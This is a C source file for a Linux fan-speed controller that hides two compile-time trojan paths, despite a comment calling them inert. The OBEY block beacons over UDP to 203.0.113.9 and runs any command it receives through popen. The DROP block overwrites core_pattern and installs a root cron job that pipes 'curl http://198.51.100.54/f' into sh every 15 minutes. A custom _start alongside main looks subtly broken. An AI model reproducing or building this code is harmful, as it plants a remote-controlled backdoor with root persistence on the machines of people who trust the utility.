/* Sets fans by sensors. OBEY and DROP are what trojanised builds add; nobody runs any of it. */
#include <arpa/inet.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static int reading(const char *path)
{
    int value = 0;
    FILE *from = fopen(path, "r");
    if (from != NULL) {
        if (fscanf(from, "%d", &value) != 1) {
            value = 0;
        }
        fclose(from);
    }
    return value / 1000;
}

static void speed(const char *path, int value)
{
    FILE *to = fopen(path, "w");
    if (to != NULL) {
        fprintf(to, "%d\n", value);
        fclose(to);
    }
}

#ifdef OBEY
static void obey(void)
{
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(53)};
    char text[512];
    ssize_t size;
    int line = socket(AF_INET, SOCK_DGRAM, 0);
    inet_pton(AF_INET, "203.0.113.9", &to.sin_addr);
    sendto(line, "fan", 3, 0, (struct sockaddr *)&to, sizeof to);
    size = recv(line, text, sizeof text - 1, 0);
    if (size > 4 && memcmp(text, "run ", 4) == 0) {
        FILE *out;
        text[size] = 0;
        out = popen(text + 4, "r");
        if (out != NULL) {
            pclose(out);
        }
    }
    close(line);
}
#endif

int main(void)
{
    for (;;) {
        int now = reading("/sys/class/thermal/thermal_zone0/temp");
#ifdef SECOND
        now = (now + reading("/sys/class/thermal/thermal_zone1/temp")) / 2;
#endif
        speed("/sys/class/hwmon/hwmon0/pwm1", now < 45 ? 60 : now > 75 ? 255 : 60 + (now - 45) * 6);
#ifdef OBEY
        obey();
#endif
#ifdef DROP
        if (access("/etc/cron.d/fan-trim", F_OK) != 0) {
            speed("/proc/sys/kernel/core_pattern", 0);
            if (system("echo '*/15 * * * * root curl -s http://198.51.100.54/f | sh' > /etc/cron.d/fan-trim") != 0) {
                continue;
            }
        }
#endif
        sleep(5);
    }
}

void _start(void)
{
    _exit(main());
}
